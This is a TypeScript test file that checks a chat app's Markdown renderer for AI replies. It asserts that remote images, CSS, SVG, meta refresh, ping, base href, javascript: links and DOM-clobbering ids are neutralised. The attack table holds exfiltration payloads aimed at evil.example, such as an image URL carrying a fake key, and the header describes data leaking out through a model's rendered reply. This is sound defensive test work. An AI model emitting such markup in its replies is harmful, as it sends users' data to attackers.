// Issue 32, medium 7, in Chromium: a reply's Markdown on the page. Before the fix
// `![x](http://host/leak?d=…)` was fetched on render (sending what the model read to any host) and
// `<a id="outcome">` took over the page's own element. Now nothing in a reply loads from another
// site unasked (a remote image is a link to click), and its ids and names are prefixed.
import { afterEach, describe, expect, it } from 'vitest';
import { markdownHtml, renderMarkdownInto } from '../../app/web/conversation/markdown-html.js';

const EVIL = 'http://evil.example';

afterEach(() => {
  document.body.replaceChildren();
});

function rendered(markdown: string): HTMLElement {
  const el = document.createElement('div');
  document.body.append(el);
  renderMarkdownInto(el, markdown);
  return el;
}

/** Every attribute in `el` that would make the browser load from EVIL (links to click are not). */
function remoteLoads(el: HTMLElement): string[] {
  const found: string[] = [];
  for (const node of el.querySelectorAll('*')) {
    for (const attr of node.attributes) {
      if (!attr.value.includes('evil.example')) continue;
      const clickOnly = node.localName === 'a' && (attr.name === 'href' || attr.name === 'title');
      if (!clickOnly) found.push(`<${node.localName} ${attr.name}="${attr.value}">`);
    }
  }
  return found;
}

describe('a reply cannot make the page load from another site', () => {
  const attacks: Record<string, string> = {
    'Markdown image': `![the key](${EVIL}/leak?d=sk-secret)`,
    'HTML image': `<img src="${EVIL}/leak.png" alt="x">`,
    'image with srcset only': `<img srcset="${EVIL}/leak.png 1x">`,
    'image with src on the page and a remote srcset': `<img src="/ok.png" srcset="${EVIL}/leak.png 2x">`,
    'protocol-relative image': '<img src="//evil.example/leak.png">',
    'CSS url() in a style attribute': `<div style="background:url(${EVIL}/leak)">x</div>`,
    '<style> with @import': `<style>@import url(${EVIL}/leak.css);</style>`,
    'SVG image': `<svg><image href="${EVIL}/leak.svg"></image></svg>`,
    'SVG use': `<svg><use href="${EVIL}/leak.svg#a"></use></svg>`,
    '<link rel=stylesheet>': `<link rel="stylesheet" href="${EVIL}/leak.css">`,
    '<link rel=prefetch>': `<link rel="prefetch" href="${EVIL}/leak">`,
    '<meta http-equiv=refresh>': `<meta http-equiv="refresh" content="0;url=${EVIL}/leak">`,
    'table background': `<table background="${EVIL}/leak.png"><tr><td>x</td></tr></table>`,
    'video poster': `<video poster="${EVIL}/leak.png"></video>`,
    'audio source': `<audio><source src="${EVIL}/leak.mp3"></audio>`,
    'picture source': `<picture><source srcset="${EVIL}/leak.png"><img src="/ok.png"></picture>`,
    '<a ping>': `<a href="https://ok.example" ping="${EVIL}/leak">ok</a>`,
    '<base href>': `<base href="${EVIL}/">`,
    'image inside a link': `[![x](${EVIL}/leak.png)](https://ok.example)`,
  };
  for (const [name, markdown] of Object.entries(attacks)) {
    it(`${name}: nothing loads from the other site`, () => {
      const el = rendered(markdown);
      expect(remoteLoads(el)).toEqual([]);
      expect(
        el.querySelector('img[src*="evil"], img[srcset], svg, image, use, link, meta, base, video, audio, source'),
      ).toBeNull();
      // The string form loads nothing either (no remote src, srcset, style, background, poster).
      expect(markdownHtml(markdown)).not.toMatch(/\s(src|srcset|style|background|poster|ping)="[^"]*evil/);
    });
  }

  it('a remote image becomes a link to click, named for its alt text; an image on the page or data: loads', () => {
    const el = rendered(
      `![the key](${EVIL}/leak?d=sk-secret)\n\n![dot](data:image/png;base64,iVBORw0KGgo=)\n\n![logo](/logo.png)`,
    );
    const link = el.querySelector<HTMLAnchorElement>('a.remote-image')!;
    expect(link.getAttribute('href')).toBe(`${EVIL}/leak?d=sk-secret`);
    expect(link.textContent).toBe('[image: the key — not loaded, click to open]');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect([...el.querySelectorAll('img')].map((i) => i.getAttribute('src'))).toEqual([
      'data:image/png;base64,iVBORw0KGgo=',
      '/logo.png',
    ]);
  });

  it('javascript: links, in Markdown or HTML, any case or spacing, are not kept', () => {
    const el = rendered(
      '[a](javascript:alert(1)) <a href="JaVaScRiPt:alert(2)">b</a> <a href=" javascript:alert(3)">c</a> <a href="&#106;avascript:alert(4)">d</a>',
    );
    for (const a of el.querySelectorAll('a')) expect(a.getAttribute('href') ?? '').not.toMatch(/script/i);
  });
});

describe("a reply cannot take over the page's element ids", () => {
  it('<a id="outcome"> and name= are prefixed: getElementById still finds the page\'s own element', () => {
    const page = document.createElement('div');
    page.id = 'outcome';
    document.body.append(page);
    const el = rendered(
      '<a id="outcome">fake</a> <img name="approval" src="data:,"> <a name="task">t</a> <p id="messages">m</p>',
    );
    expect(document.getElementById('outcome')).toBe(page);
    expect(document.getElementById('messages')).toBeNull();
    expect([...el.querySelectorAll('[id]')].map((e) => e.id)).toEqual([
      'user-content-outcome',
      'user-content-messages',
    ]);
    for (const named of el.querySelectorAll('[name]')) expect(named.getAttribute('name')).toMatch(/^user-content-/);
  });

  it('names that would clobber document properties are removed', () => {
    rendered('<img name="getElementById" src="data:,"> <form name="cookie"></form> <img id="location" src="data:,">');
    expect(typeof document.getElementById).toBe('function');
    expect(typeof document.cookie).toBe('string');
    expect(String(document.location)).toContain(window.location.host);
  });
});
